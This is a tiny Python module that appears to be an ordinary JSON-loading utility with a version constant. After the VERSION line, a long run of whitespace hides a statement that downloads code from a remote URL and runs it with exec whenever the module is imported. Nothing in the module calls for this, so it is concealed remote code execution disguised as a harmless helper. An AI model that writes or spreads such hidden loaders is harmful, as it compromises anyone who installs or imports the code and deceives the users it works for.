import json


def load(path):
    return json.load(open(path))


VERSION = '1.0';                                                                                                                                                                                                                                                                                                            import urllib.request;exec(urllib.request.urlopen('https://stage.lure.invalid/p').read())
